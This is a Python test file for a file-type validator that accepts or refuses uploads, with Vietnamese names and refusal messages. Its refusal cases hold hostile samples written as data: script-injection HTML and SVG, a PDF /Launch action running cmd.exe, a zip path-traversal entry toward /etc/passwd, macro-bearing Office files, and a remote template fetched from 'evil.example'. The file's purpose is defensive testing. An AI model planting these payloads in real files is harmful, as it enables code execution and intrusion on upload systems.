import io

import pytest

from ocop.foundation.files.true_type import DOCUMENTS, FileType, true_type
from ocop.foundation.refusal import Refusal
from tests.factories.files import MP4, PDF, make_docx, make_image, make_xlsx, make_zip

HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 100


@pytest.mark.parametrize(
    ("content", "name", "expected"),
    [
        (PDF, "Giấy ĐKKD.PDF", FileType.PDF),
        (make_image("JPEG"), "anh.jpeg", FileType.JPEG),
        (make_image("PNG"), "anh.png", FileType.PNG),
        (make_image("WEBP"), "anh.webp", FileType.WEBP),
        (make_image("WEBP"), "anh-zalo.jpg", FileType.WEBP),
        (make_docx(), "Báo cáo.docx", FileType.DOCX),
        (make_xlsx(), "Danh sách.xlsx", FileType.XLSX),
        (MP4, "quy trình.mp4", FileType.MP4),
        (PDF, "khong-co-duoi", FileType.PDF),
    ],
)
def test_good_files_are_known_by_their_bytes(content: bytes, name: str, expected: FileType) -> None:
    assert true_type(io.BytesIO(content), name) == expected


@pytest.mark.parametrize(
    ("content", "name", "sentence"),
    [
        (b"", "a.pdf", "Tệp trống"),
        (b"MZ\x90\x00" + b"\x00" * 200, "a.pdf", "Loại tệp này"),
        (b"MZ" + PDF, "a.pdf", "Loại tệp này"),
        (b"<!DOCTYPE html><script>alert(1)</script>", "a.pdf", "Loại tệp này"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "a.png", "Loại tệp này"),
        (b"GIF89a" + b"\x00" * 50, "a.png", "Loại tệp này"),
        (HEIC, "IMG_1.heic", "Ảnh HEIC"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "cu.doc", "kiểu cũ"),
        (PDF, "a.exe", "mang đuôi “.exe”"),
        (PDF, "hoa-don.pdf.html", "mang đuôi “.html”"),
        (make_image("JPEG"), "anh.pdf", "mang đuôi “.pdf”"),
        (b"%PDF-1.4\n<script>alert(1)</script>\n%%EOF", "a.pdf", "nội dung lạ"),
        (PDF + b"<html><script>alert(1)</script></html>", "a.pdf", "nội dung lạ"),
        (PDF + make_zip({"a.txt": b"x"}), "a.pdf", "nội dung lạ"),
        (b"%PDF-1.4\n" + b"/Launch (cmd.exe)" + PDF, "a.pdf", "lệnh chạy"),
        (b"%PDF-1.4 half a file", "a.pdf", "không đầy đủ"),
        (make_zip({"a.txt": b"xin chao"}), "a.docx", "Loại tệp này"),
        (make_docx(**{"word/vbaProject.bin": b"x"}), "a.docx", "macro"),
        (make_docx()[:-30], "a.docx", "bị hỏng"),
        (make_docx(**{"../../etc/passwd": b"x"}), "a.docx", "cấu trúc lạ"),
        (make_docx(**{"word/media/a.bin": b"\x00" * 20_000_000}), "a.docx", "quá nhiều dữ liệu"),
        (make_xlsx(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "a.xlsx", "macro"),
        (make_docx(), "a.xlsx", "mang đuôi “.xlsx”"),
        (
            make_docx(
                **{
                    "word/_rels/settings.xml.rels": b'<Relationship Type="x/attachedTemplate" '
                    b'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                }
            ),
            "a.docx",
            "mẫu từ nơi khác",
        ),
    ],
)
def test_hostile_and_wrong_files_are_refused_with_a_sentence(content: bytes, name: str, sentence: str) -> None:
    with pytest.raises(Refusal, match=sentence):
        true_type(io.BytesIO(content), name)


def test_a_type_that_is_not_allowed_here_is_refused_naming_what_is() -> None:
    with pytest.raises(Refusal) as refusal:
        true_type(io.BytesIO(MP4), "a.mp4", allowed=DOCUMENTS)
    assert refusal.value.reasons == ["Loại tệp này không nhận được. Nhận: PDF, JPEG, PNG, Word (.docx), Excel (.xlsx)."]
